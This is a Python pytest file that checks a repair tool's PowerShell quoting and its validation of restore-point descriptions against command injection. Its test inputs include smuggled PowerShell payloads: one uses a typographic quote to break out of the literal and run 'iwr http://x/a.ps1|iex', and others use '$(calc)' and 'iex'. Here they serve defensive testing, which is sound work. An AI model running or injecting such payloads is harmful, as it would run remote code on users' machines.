"""PowerShell literals can never be closed from inside (ASCII and typographic single quotes)."""

import pytest

from techcare.errors import RepairError
from techcare.repairs import Plan, ps_quote


@pytest.mark.parametrize("quote", ["'", "\u2018", "\u2019", "\u201a", "\u201b"])
def test_every_single_quote_kind_is_doubled(quote):
    quoted = ps_quote(f"a{quote}; iex x; {quote}")
    inner = quoted[1:-1]
    # every quote inside comes in pairs, so PowerShell reads them as literal characters
    assert inner.count(quote * 2) == 2 and inner.replace(quote * 2, "").count(quote) == 0


@pytest.mark.parametrize("description", ["TechCare’; iwr http://x/a.ps1|iex; ’", "a'b", "x`y", "$(calc)"])
def test_restore_point_description_refuses_script_characters(description):
    with pytest.raises(RepairError, match="description"):
        Plan.from_actions([{"action": "win.create_restore_point", "params": {"description": description}}],
                          platform="windows")


def test_restore_point_description_allows_plain_text():
    plan = Plan.from_actions([{"action": "win.create_restore_point",
                               "params": {"description": "Vor Treiber-Update (Müller, 12.3.)"}}], platform="windows")
    assert "'Vor Treiber-Update (Müller, 12.3.)'" in plan.steps[0].command_text()[0]
